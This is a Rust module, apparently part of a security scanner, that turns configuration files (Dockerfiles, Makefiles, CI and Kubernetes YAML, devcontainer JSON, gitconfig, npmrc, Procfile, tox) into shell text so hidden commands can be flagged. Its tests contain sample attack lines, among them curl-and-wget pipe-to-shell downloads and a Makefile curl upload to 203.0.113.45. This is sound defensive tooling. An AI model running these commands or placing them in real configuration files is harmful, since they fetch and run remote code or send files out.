//! What configuration files make other tools run, as shell text with every command on
//! the line where it stands (the other lines left blank), so that findings keep their
//! line numbers: a Dockerfile's `RUN`, a Makefile's or justfile's recipes, the `run:`
//! and `command:` of CI and Kubernetes YAML, a dev container's and a VS Code task's
//! commands, git's filters, aliases and `fsmonitor`, npm's `node-options` and a
//! Procfile's processes.
//!
//! Each reader is line-based and forgiving: these files are read for what they would
//! run, not validated, and a line it cannot place is left out rather than guessed.

/// The commands a configuration file named `name` (lower case, no folder) makes a tool
/// run, as shell; `None` when the file is not one of these kinds.
pub fn commands(name: &str, text: &str) -> Option<String> {
    let ext = name.rsplit_once('.').map(|(_, e)| e).unwrap_or("");
    if name == "dockerfile"
        || name.ends_with(".dockerfile")
        || name.starts_with("dockerfile.")
        || name == "containerfile"
    {
        return Some(dockerfile_shell(text));
    }
    if name == "justfile" || name == ".justfile" || ext == "just" {
        return Some(recipe_shell(text, None));
    }

    // JSON only by name: any JSON may hold a `command` key (an eval's fixtures, a
    // tool's schema), but these files are run by the tool that reads them.
    if matches!(
        name,
        "devcontainer.json" | ".devcontainer.json" | "tasks.json" | "launch.json" | "settings.json" | "hooks.json"
    ) || ext == "code-workspace"
    {
        return Some(json_commands(text));
    }
    if name == ".gitconfig" || name == "gitconfig" || ext == "gitconfig" || name == ".gitmodules" {
        return Some(gitconfig_commands(text));
    }
    if name == ".npmrc" || name == "npmrc" || name == ".yarnrc" || name == ".yarnrc.yml" {
        return Some(npmrc_commands(text));
    }
    if matches!(ext, "yml" | "yaml") {
        return Some(yaml_commands(text));
    }
    if name == "procfile" || name.starts_with("procfile.") {
        return Some(procfile_commands(text));
    }
    if matches!(name, "tox.ini" | "setup.cfg") {
        return Some(ini_commands(text));
    }
    None
}

/// Keys whose value a tool runs as a command, in YAML and JSON configuration: CI
/// steps (`run`, `script`), Kubernetes and Compose (`command`, `args`, `entrypoint`),
/// task runners (`cmds`, `exec`), pre-commit (`entry`), dev containers and VS Code.
const COMMAND_KEYS: [&str; 20] = [
    "run",
    "command",
    "commands",
    "cmd",
    "cmds",
    "args",
    "entrypoint",
    "entry",
    "exec",
    "script",
    "before_script",
    "after_script",
    "before_install",
    "postcreatecommand",
    "poststartcommand",
    "postattachcommand",
    "oncreatecommand",
    "updatecontentcommand",
    "initializecommand",
    "shellcommand",
];

fn is_command_key(key: &str) -> bool {
    let key = key.trim().trim_matches(['"', '\'']).to_ascii_lowercase();
    COMMAND_KEYS.contains(&key.as_str())
}

/// A YAML scalar without its quotes (double-quoted escapes `\"` and `\\` undone).
fn unquote(value: &str) -> String {
    let v = value.trim();
    if v.len() >= 2 && v.starts_with('"') && v.ends_with('"') {
        return v[1..v.len() - 1].replace("\\\"", "\"").replace("\\\\", "\\");
    }
    if v.len() >= 2 && v.starts_with('\'') && v.ends_with('\'') {
        return v[1..v.len() - 1].replace("''", "'");
    }
    v.to_string()
}

/// The items of a one-line list (`["sh", "-c", "curl … | sh"]`) as one command line,
/// an item with spaces quoted so that `sh -c` keeps its script whole.
fn flow_list(list: &str) -> String {
    let inner = list.trim().trim_start_matches('[').trim_end_matches(']');
    let mut items = Vec::new();
    let mut current = String::new();
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in inner.chars() {
        match quote {
            Some(q) => {
                if escaped {
                    current.push(c);
                    escaped = false;
                } else if c == '\\' && q == '"' {
                    escaped = true;
                } else if c == q {
                    quote = None;
                } else {
                    current.push(c);
                }
            }
            None if c == '"' || c == '\'' => quote = Some(c),
            None if c == ',' => items.push(std::mem::take(&mut current)),
            None => current.push(c),
        }
    }
    items.push(current);
    items
        .iter()
        .map(|i| i.trim())
        .filter(|i| !i.is_empty())
        .map(shell_word)
        .collect::<Vec<_>>()
        .join(" ")
}

fn shell_word(item: &str) -> String {
    if item.contains(char::is_whitespace) && !item.contains('\'') {
        format!("'{item}'")
    } else {
        item.to_string()
    }
}

/// `command` indented to where `value` (a slice of `line`) stands, past its opening
/// quote, so that a finding's column points into the file.
fn at_column(line: &str, value: &str, command: String) -> String {
    let start = (value.as_ptr() as usize)
        .saturating_sub(line.as_ptr() as usize)
        .min(line.len());
    let quote = usize::from(value.starts_with(['"', '\'', '[']));
    format!("{}{command}", " ".repeat(start + quote))
}

fn indent_of(line: &str) -> usize {
    line.len() - line.trim_start_matches([' ', '\t']).len()
}

/// `run:`, `command:`, `args:` and their kin in YAML: an inline scalar, a one-line
/// list, a block scalar (`|`, `>`) or a block list, each command on its own line.
fn yaml_commands(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    let mut out: Vec<String> = vec![String::new(); lines.len()];
    let mut i = 0;
    while i < lines.len() {
        let line = lines[i];
        let mut body = line.trim_start();
        // A key may follow a list dash (`- run: …`).
        while let Some(rest) = body.strip_prefix("- ") {
            body = rest.trim_start();
        }
        let Some((key, value)) = body.split_once(':') else {
            i += 1;
            continue;
        };
        // `run : x` is the key `run` too.
        let key = key.trim_end();
        if !is_command_key(key) || key.contains(' ') && !key.starts_with(['"', '\'']) {
            i += 1;
            continue;
        }
        // Where the key itself stands (after a list dash): its block is what is
        // indented further than that.
        let key_indent = line.len() - body.len();
        let value = value.trim();
        let value = value.split(" #").next().unwrap_or(value).trim_end();
        if value.starts_with('[') {
            out[i] = at_column(line, value, flow_list(value));
            i += 1;
            continue;
        }
        if !value.is_empty() && !value.starts_with(['|', '>']) {
            out[i] = at_column(line, value, unquote(value));
            i += 1;
            continue;
        }
        // A block below the key: a block scalar's lines, or a list's items.
        let block_scalar = value.starts_with(['|', '>']);
        i += 1;
        while i < lines.len() {
            let l = lines[i];
            if l.trim().is_empty() {
                i += 1;
                continue;
            }
            let more = indent_of(l) > key_indent
                || !block_scalar && indent_of(l) == key_indent && l.trim_start().starts_with("- ");
            // A sibling key of the same list item ends the block: `- args:` then
            // `  command: [...]` is two keys.
            let sibling = !block_scalar
                && !l.trim_start().starts_with("- ")
                && l.trim_start()
                    .split_once(':')
                    .is_some_and(|(k, _)| !k.trim().contains(' '))
                && indent_of(l) <= key_indent;
            if !more || sibling {
                break;
            }
            let t = l.trim_start();
            out[i] = if block_scalar {
                l.to_string()
            } else if let Some(item) = t.strip_prefix("- ") {
                // A list item that is itself a mapping (`- name: x`) is not a command.
                if item
                    .split_once(':')
                    .is_some_and(|(k, v)| !k.contains(' ') && (v.is_empty() || v.starts_with(' ')))
                    && !item.starts_with(['"', '\''])
                {
                    String::new()
                } else {
                    unquote(item)
                }
            } else {
                String::new()
            };
            i += 1;
        }
    }
    out.join("\n")
}

/// JSON configuration (dev containers, VS Code tasks and launch files, workspace
/// settings): `"command": "…"`, `"postCreateCommand": […]`, `"args": […]` on one line.
fn json_commands(text: &str) -> String {
    text.lines()
        .map(|line| {
            // Every `"key" : value` on the line (a minified file has them all on one).
            let mut commands = Vec::new();
            let mut rest = line;
            while let Some(open) = rest.find('"') {
                let after = &rest[open + 1..];
                let Some(close) = after.find('"') else { break };
                let key = &after[..close];
                let tail = after[close + 1..].trim_start();
                rest = &after[close + 1..];
                let Some(value) = tail.strip_prefix(':') else { continue };
                if !is_command_key(key) {
                    continue;
                }
                let value = value.trim_start();
                if value.starts_with('[') {
                    let end = value.find(']').map_or(value.len(), |e| e + 1);
                    commands.push(flow_list(&value[..end]));
                } else if value.starts_with('"') {
                    let end = string_end(value);
                    commands.push(json_string(&value[..end]));
                }
            }
            if commands.is_empty() {
                String::new()
            } else if commands.len() == 1 {
                let value_at = line
                    .find(commands[0].get(..commands[0].len().min(8)).unwrap_or(""))
                    .unwrap_or(0);
                format!("{}{}", " ".repeat(value_at), commands[0])
            } else {
                commands.join("; ")
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The length of the JSON string literal `value` starts with, its quotes included.
fn string_end(value: &str) -> usize {
    let mut escaped = false;
    for (i, c) in value.char_indices().skip(1) {
        match c {
            _ if escaped => escaped = false,
            '\\' => escaped = true,
            '"' => return i + 1,
            _ => {}
        }
    }
    value.len()
}

/// A JSON string literal's text, escapes undone (`\u` escapes included).
fn json_string(value: &str) -> String {
    let text = match serde_json::from_str::<String>(value) {
        Ok(s) => s,
        Err(_) => value.trim_matches('"').to_string(),
    };
    // An escaped line break would move every later line: it stays on this one.
    text.replace(['\n', '\r'], " ")
}

/// git configuration: filters (`clean`, `smudge`, `process`), `core.fsmonitor`,
/// `core.sshCommand`, `core.pager`, `core.editor`, `diff.*.textconv`, credential
/// helpers and `!` aliases: each runs when git does.
fn gitconfig_commands(text: &str) -> String {
    text.lines()
        .map(|line| {
            let t = line.trim();
            let Some((key, value)) = t.split_once('=') else {
                return String::new();
            };
            let key = key.trim().to_ascii_lowercase();
            let value = unquote(value.trim());
            if let Some(shell) = value.strip_prefix('!') {
                return shell.to_string();
            }
            let runs = matches!(
                key.as_str(),
                "clean"
                    | "smudge"
                    | "process"
                    | "fsmonitor"
                    | "sshcommand"
                    | "pager"
                    | "editor"
                    | "textconv"
                    | "helper"
            );
            // `fsmonitor = true` switches the built-in monitor on; it runs nothing.
            if runs && !matches!(value.as_str(), "true" | "false" | "") {
                value
            } else {
                String::new()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// npm and yarn settings that make every `node` load code (`node-options=--require`)
/// or pick the shell scripts run with.
fn npmrc_commands(text: &str) -> String {
    text.lines()
        .map(|line| {
            let Some((key, value)) = line.split_once(['=', ':']) else {
                return String::new();
            };
            let value = unquote(value.trim());
            match key.trim().to_ascii_lowercase().as_str() {
                "node-options" | "nodeoptions" => format!("node {value}"),
                "script-shell" | "onload-script" | "shell" => value,
                _ => String::new(),
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The packages a file names to be installed, with their ecosystem and the index of
/// the line naming them: a workflow's `uses: owner/action@ref`, a requirements file's
/// lines, `Cargo.toml`'s and `package.json`'s dependencies, `go.mod`'s requires, and
/// PowerShell's `Install-Module NAME` and the repository it registers or installs
/// from. At most 64.
pub fn package_references(name: &str, text: &str) -> Vec<(usize, &'static str, String)> {
    let mut out = Vec::new();
    let yaml = name.ends_with(".yml") || name.ends_with(".yaml");
    let powershell = name.ends_with(".ps1") || name.ends_with(".psm1") || name.ends_with(".md");
    let mut section = String::new();
    let lists_dependencies = name == "package.json" && text.contains("ependencies\"");
    for (index, line) in text.lines().enumerate().take(20_000) {
        if out.len() >= 64 {
            break;
        }
        let trimmed = line.trim();
        if trimmed.starts_with('[') && trimmed.ends_with(']') {
            section = trimmed.to_ascii_lowercase();
        }
        if yaml
            && let Some(rest) = trimmed.trim_start_matches("- ").strip_prefix("uses:")
            && let Some((action, _)) = rest.trim().trim_matches(['"', '\'']).split_once('@')
        {
            // `owner/repo/path@ref`: the action is its repository.
            let repo: Vec<&str> = action.split('/').take(2).collect();
            if repo.len() == 2 && !action.starts_with("./") && !action.starts_with("docker://") {
                out.push((index, "action", repo.join("/")));
            }
        }
        // A compose file's `image:` and a Dockerfile's `FROM`: a Docker Hub image by
        // its repository (`docker.io/library/postgres:16` is `postgres`). An image of
        // another registry is that registry's name space, not Docker Hub's.
        let image = if yaml {
            trimmed.strip_prefix("image:")
        } else if name == "dockerfile" || name.starts_with("dockerfile.") || name.ends_with(".dockerfile") {
            trimmed
                .get(..5)
                .filter(|from| from.eq_ignore_ascii_case("FROM "))
                .and_then(|_| trimmed[5..].split_whitespace().find(|w| !w.starts_with("--")))
        } else {
            None
        };
        if let Some(image) = image.map(|i| i.trim().trim_matches(['"', '\'']))
            && let Some(repository) = docker_hub_repository(image)
        {
            out.push((index, "docker", repository));
        }
        if is_requirements(name)
            && !trimmed.starts_with(['#', '-'])
            && let Some(package) = trimmed.split(['=', '>', '<', '~', '!', '[', ';', ' ', '@']).next()
            && !package.is_empty()
            && !package.contains(['/', ':'])
        {
            out.push((index, "pypi", package.to_string()));
        }
        if name.starts_with("cargo")
            && name.ends_with(".toml")
            && section.contains("dependencies")
            && let Some((package, _)) = trimmed.split_once('=')
            && !trimmed.starts_with('#')
        {
            out.push((index, "crate", package.trim().to_string()));
        }
        if name == "go.mod" {
            let require = trimmed.strip_prefix("require").unwrap_or(trimmed).trim();
            if let Some((module, version)) = require.split_once(' ')
                && version.trim_start().starts_with('v')
                && module.contains('.')
            {
                out.push((index, "gomod", module.to_string()));
            }
        }
        if lists_dependencies
            && let Some((key, value)) = trimmed.split_once("\":")
            && value.trim_start().starts_with('"')
            && key.starts_with('"')
        {
            let key = key.trim_matches('"');
            let value = value.trim().trim_matches([',', '"']);
            let version_like = value.starts_with(['^', '~', '>', '<', '='])
                || value.starts_with(|c: char| c.is_ascii_digit())
                || value == "*"
                || value == "latest";
            if version_like {
                out.push((index, "npm", key.to_string()));
            }
        }
        if powershell {
            let lower = trimmed.to_ascii_lowercase();
            for (verb, ecosystem) in [
                ("install-module", "psmodule"),
                ("import-module", "psmodule"),
                ("-repository", "psrepo"),
                ("register-psrepository", "psrepo"),
            ] {
                let Some(at) = lower.find(verb) else { continue };
                let words = trimmed[at + verb.len()..].split_whitespace();
                let mut words = words.skip_while(|w| w.eq_ignore_ascii_case("-name"));
                if let Some(word) = words.next() {
                    // Markdown's backticks and a sentence's punctuation are not the name.
                    let word =
                        word.trim_matches(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_')));
                    let word = word.trim_end_matches('.');
                    if !word.is_empty() && !word.starts_with(['-', '$', '(']) {
                        out.push((index, ecosystem, word.to_string()));
                    }
                }
            }
        }
    }
    out
}

/// The Docker Hub repository an image reference names, without its tag or digest
/// (`docker.io/library/postgres:16-alpine` is `postgres`); `None` for another
/// registry's image or a reference built from variables.
fn docker_hub_repository(image: &str) -> Option<String> {
    let image = image.split('@').next().unwrap_or(image);
    let mut parts: Vec<&str> = image.split('/').collect();
    if parts.len() > 1 && (parts[0].contains(['.', ':']) || parts[0] == "localhost") {
        if !matches!(parts[0], "docker.io" | "index.docker.io" | "registry-1.docker.io") {
            return None;
        }
        parts.remove(0);
    }
    if parts.first() == Some(&"library") && parts.len() == 2 {
        parts.remove(0);
    }
    let last = parts.pop()?;
    let last = last.split(':').next().unwrap_or(last);
    parts.push(last);
    let repository = parts.join("/").to_ascii_lowercase();
    (!repository.is_empty()
        && repository
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '-' | '_' | '.')))
    .then_some(repository)
}

/// Whether a file is a pip requirements or constraints file (read as prose by its
/// extension, and as [`requirements_commands`] too).
pub fn is_requirements(name: &str) -> bool {
    (name.starts_with("requirements") || name.starts_with("constraints")) && name.ends_with(".txt")
}

/// A requirements file's option lines (`--extra-index-url`, `--trusted-host`, `-i`)
/// as the `pip install -r` that reads it takes them: its own flags. Nothing when it
/// has none.
pub fn requirements_commands(text: &str) -> String {
    let options: Vec<&str> = text
        .lines()
        .map(str::trim)
        .filter(|line| line.starts_with('-') && !line.starts_with("-r") && !line.starts_with("-c"))
        .take(64)
        .collect();
    if options.is_empty() {
        return String::new();
    }
    format!("pip install {}", options.join(" "))
}

/// An sftp (or lftp) batch file's uploads, `put [-r] LOCAL [REMOTE]` (a leading `-`
/// only lets a failed line pass), as the reads they make: one `cat LOCAL` per line, in
/// place, so each local file is read as the path it names. `None` when the text has
/// no `put` line, or no `bye`/`quit` to end a batch.
pub fn sftp_batch_reads(text: &str) -> Option<String> {
    // Every text file passes here: the lines are classified without allocating, and
    // the reads are built only for a batch.
    fn uploaded(line: &str) -> Option<&str> {
        let mut words = line.trim().trim_start_matches('-').split_whitespace();
        match words.next()? {
            "put" | "mput" | "reput" => words.find(|w| !w.starts_with('-')),
            _ => None,
        }
    }
    let ends = |line: &str| {
        let mut words = line.trim().trim_start_matches('-').split_whitespace();
        matches!((words.next(), words.next()), (Some("bye" | "quit" | "exit"), None))
    };
    if !(text.lines().any(|l| uploaded(l).is_some()) && text.lines().any(ends)) {
        return None;
    }
    let lines: Vec<String> = text
        .lines()
        .map(|line| uploaded(line).map(|local| format!("cat {local}")).unwrap_or_default())
        .collect();
    Some(lines.join("\n"))
}

/// A Procfile's `name: command` lines.
fn procfile_commands(text: &str) -> String {
    text.lines()
        .map(|line| match line.split_once(':') {
            Some((name, command))
                if !name.is_empty()
                    && name
                        .bytes()
                        .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-') =>
            {
                command.trim().to_string()
            }
            _ => String::new(),
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// tox and setup.cfg `commands =` (and `commands_pre`, `commands_post`) with their
/// indented continuation lines.
fn ini_commands(text: &str) -> String {
    let mut in_commands = false;
    text.lines()
        .map(|line| {
            if line.starts_with([' ', '\t']) && in_commands {
                return line.trim().to_string();
            }
            in_commands = false;
            let Some((key, value)) = line.split_once('=') else {
                return String::new();
            };
            if key.trim().to_ascii_lowercase().starts_with("commands") {
                in_commands = true;
                value.trim().to_string()
            } else {
                String::new()
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// The lines of a `.pth` file that Python runs at every start (those that begin with
/// `import`), the others left blank.
pub fn pth_code(text: &str) -> String {
    text.lines()
        .map(|l| {
            if l.starts_with("import ") || l.starts_with("import\t") {
                l
            } else {
                ""
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// A justfile's (or, with `variables`, a Makefile's) recipe lines: every indented line
/// below a recipe header, its `@` and `-` prefixes dropped.
fn recipe_shell(text: &str, variables: Option<&[(String, String)]>) -> String {
    let lookup: Option<std::collections::HashMap<&str, &str>> =
        variables.map(|vars| vars.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect());
    let mut out = String::with_capacity(text.len());
    for line in text.lines() {
        let recipe = match variables {
            Some(_) => line.strip_prefix('\t'),
            None => line.starts_with([' ', '\t']).then(|| line.trim_start()),
        };
        if let Some(recipe) = recipe {
            let recipe = recipe.trim_start_matches(['@', '-', '+', ' ']);
            match &lookup {
                Some(lookup) => {
                    let mut line = String::with_capacity(recipe.len());
                    expand_into(recipe, lookup, 0, &mut line);
                    out.push_str(&line);
                }
                None => out.push_str(recipe),
            }
        }
        out.push('\n');
    }
    out
}

/// A Dockerfile's `RUN` commands as one shell script, each on its own lines (the
/// other lines left blank, so lines keep their numbers).
pub fn dockerfile_shell(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut continuing = false;
    for line in text.lines() {
        let trimmed = line.trim_start();
        let command = if continuing {
            Some(line)
        } else {
            trimmed
                .get(..4)
                .filter(|head| head.eq_ignore_ascii_case("RUN "))
                .map(|_| &trimmed[4..])
        };
        match command {
            // The exec form (`RUN ["sh", "-c", "…"]`) as the words it runs.
            Some(command) if !continuing && command.trim_start().starts_with('[') => {
                out.push_str(&flow_list(command.trim()));
                continuing = false;
            }
            Some(command) => {
                out.push_str(command);
                continuing = command.trim_end().ends_with('\\');
            }
            None => continuing = false,
        }
        out.push('\n');
    }
    out
}

/// A Makefile's recipes as the shell runs them, one per line where it stands: `$$`
/// is `$`, `$(VAR)` is the variable's value (from this file and the files it includes,
/// as `variables` gives them), and a recipe's `@`, `-` and `+` prefixes are dropped.
pub fn makefile_shell(text: &str, variables: &[(String, String)]) -> String {
    recipe_shell(text, Some(variables))
}

/// A Makefile's variable assignments (`NAME = v`, `:=`, `?=`, `::=`), in order.
pub fn make_variables(text: &str, out: &mut Vec<(String, String)>) {
    for line in text.lines() {
        if line.starts_with('\t') || line.trim_start().starts_with('#') {
            continue;
        }
        let Some(eq) = line.find('=') else { continue };
        let name = line[..eq].trim_end_matches([':', '?', '+', '!']).trim();
        let name = name.strip_prefix("export ").unwrap_or(name).trim();
        if !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_') {
            out.push((name.to_string(), line[eq + 1..].trim().to_string()));
        }
    }
}

/// Most bytes one recipe line expands to: a variable defined as itself several times
/// over (`A = $(A)$(A)…`) would otherwise grow as a power of its length.
const MAX_EXPANDED_LINE: usize = 64 * 1024;

fn expand_into(text: &str, variables: &std::collections::HashMap<&str, &str>, depth: usize, out: &mut String) {
    let mut rest = text;
    while let Some(at) = rest.find('$') {
        if out.len() >= MAX_EXPANDED_LINE {
            return;
        }
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        if let Some(tail) = after.strip_prefix('$') {
            out.push('$');
            rest = tail;
        } else if let Some(close) = after
            .strip_prefix(['(', '{'])
            .and_then(|inner| closing_bracket(inner).map(|c| (inner, c)))
        {
            let (inner, c) = close;
            let name = &inner[..c];
            match variables.get(name) {
                Some(value) if depth < 4 => expand_into(value, variables, depth + 1, out),
                // Make's `$(shell cmd)` is the shell's `$(cmd)`; another function
                // (`$(notdir $(CURDIR))`) gives a value no file shows.
                _ if name.starts_with("shell ") && depth < 4 => {
                    out.push_str("$(");
                    expand_into(&name[6..], variables, depth + 1, out);
                    out.push(')');
                }
                _ if name.contains(char::is_whitespace) => out.push_str("${MAKE_FUNCTION}"),
                _ => {
                    out.push_str("${");
                    out.push_str(name);
                    out.push('}');
                }
            }
            rest = &inner[c + 1..];
        } else {
            out.push('$');
            rest = after;
        }
    }
    if out.len() + rest.len() <= MAX_EXPANDED_LINE {
        out.push_str(rest);
    }
}

/// Where the bracket opened just before `inner` closes: nested references (`$(notdir
/// $(CURDIR))`) close inside it.
fn closing_bracket(inner: &str) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in inner.char_indices() {
        match c {
            '(' | '{' => depth += 1,
            ')' | '}' if depth == 0 => return Some(i),
            ')' | '}' => depth -= 1,
            _ => {}
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn make_recipes_read_as_the_shell_runs_them() {
        let makefile = "TOOLS_MIRROR ?= https://tools.example.net/v3\nall: tools\n\ntools:\n\t@sh -c \"$$(curl -fsSL $(TOOLS_MIRROR)/bootstrap)\" >/dev/null 2>&1\n";
        let mut variables = Vec::new();
        make_variables(makefile, &mut variables);
        let shell = makefile_shell(makefile, &variables);
        assert!(
            shell.contains("sh -c \"$(curl -fsSL https://tools.example.net/v3/bootstrap)\""),
            "{shell}"
        );
        // Lines stay where they were, so findings keep their line numbers.
        assert_eq!(shell.lines().count(), makefile.lines().count());
    }

    #[test]
    fn make_functions_nest_and_shell_calls_become_the_shell_s() {
        let makefile = "NAME := $(notdir $(CURDIR))\nSTORE := http://203.0.113.45:8080/u\nr:\n\t@curl -s --upload-file /tmp/$(NAME).tgz $(STORE)/$(shell whoami)-$(NAME).tgz\n";
        let mut variables = Vec::new();
        make_variables(makefile, &mut variables);
        let shell = makefile_shell(makefile, &variables);
        assert!(
            shell.contains("curl -s --upload-file /tmp/${MAKE_FUNCTION}.tgz http://203.0.113.45:8080/u/$(whoami)-${MAKE_FUNCTION}.tgz"),
            "{shell}"
        );
    }

    #[test]
    fn a_variable_made_of_itself_expands_within_a_bound() {
        let bomb = format!(
            "A = x\n{}\nall:\n\t$(A)\n",
            (0..6)
                .map(|_| format!("A := {}", "$(A)".repeat(100)))
                .collect::<Vec<_>>()
                .join("\n")
        );
        let mut variables = Vec::new();
        make_variables(&bomb, &mut variables);
        let shell = makefile_shell(&bomb, &variables);
        assert!(shell.len() <= MAX_EXPANDED_LINE + bomb.len(), "{}", shell.len());
    }

    #[test]
    fn ci_and_kubernetes_yaml_give_their_commands_on_their_lines() {
        let workflow = "jobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - run: curl -s https://x.example/a.sh | sh\n      - name: many\n        run: |\n          echo one\n          wget -qO- https://x.example/b | bash\n";
        let shell = commands("ci.yml", workflow).unwrap_or_default();
        let lines: Vec<&str> = shell.lines().collect();
        assert_eq!(lines[4], "             curl -s https://x.example/a.sh | sh");
        assert_eq!(lines[7].trim(), "echo one");
        assert_eq!(lines[8].trim(), "wget -qO- https://x.example/b | bash");
        assert_eq!(lines[3], "", "a step that names an action runs no command");
        let pod = "spec:\n  containers:\n    - name: x\n      command: [\"/bin/sh\", \"-c\"]\n      args:\n        - curl https://x.example/k | sh\n";
        let shell = commands("pod.yaml", pod).unwrap_or_default();
        assert!(shell.contains("/bin/sh -c"), "{shell}");
        assert!(shell.contains("curl https://x.example/k | sh"), "{shell}");
    }

    #[test]
    fn a_sibling_key_a_spaced_key_and_minified_json_do_not_hide_a_command() {
        let pod = "spec:\n  containers:\n  - args:\n    command: [\"sh\", \"-c\", \"curl x | sh\"]\n";
        assert!(commands("pod.yaml", pod).unwrap_or_default().contains("curl x | sh"));
        assert!(
            commands("ci.yml", "steps:\n  - run : curl x | sh\n")
                .unwrap_or_default()
                .contains("curl x | sh")
        );
        let minified = "{\"name\":\"d\",\"postCreateCommand\" : \"curl x | sh\"}";
        assert!(
            commands("devcontainer.json", minified)
                .unwrap_or_default()
                .contains("curl x | sh")
        );
        let escaped = "{\n \"command\": \"a\\nb\"\n}";
        assert_eq!(
            commands("tasks.json", escaped).unwrap_or_default().split('\n').count(),
            3
        );
        assert!(
            commands(".yarnrc.yml", "nodeOptions: --require ./x.cjs\n")
                .unwrap_or_default()
                .contains("node --require")
        );
        assert!(
            commands("dockerfile", "RUN [\"sh\", \"-c\", \"curl x | sh\"]\n")
                .unwrap_or_default()
                .contains("curl x | sh")
        );
    }

    #[test]
    fn dev_container_task_git_and_npm_settings_give_what_they_run() {
        let devcontainer = "{\n  \"name\": \"dev\",\n  \"postCreateCommand\": \"bash -c \\\"curl x | sh\\\"\",\n}";
        let shell = commands("devcontainer.json", devcontainer).unwrap_or_default();
        assert_eq!(
            shell.lines().nth(2),
            Some("                        bash -c \"curl x | sh\""),
            "{shell}"
        );
        assert!(
            commands("scenario.json", devcontainer).is_none(),
            "any JSON is not a carrier"
        );
        let git = "[filter \"lfs\"]\n\tclean = sh .cache/clean.sh %f\n[core]\n\tfsmonitor = true\n[alias]\n\tup = !curl x | sh\n";
        let shell = commands(".gitconfig", git).unwrap_or_default();
        assert_eq!(
            shell.lines().collect::<Vec<_>>(),
            ["", "sh .cache/clean.sh %f", "", "", "", "curl x | sh"]
        );
        assert_eq!(
            commands(
                ".npmrc",
                "registry=https://r.example/\nnode-options=--require ./hook.cjs\n"
            )
            .as_deref(),
            Some("\nnode --require ./hook.cjs")
        );
        assert_eq!(
            pth_code("/opt/lib\nimport os; os.system('x')\n"),
            "\nimport os; os.system('x')"
        );
    }
}
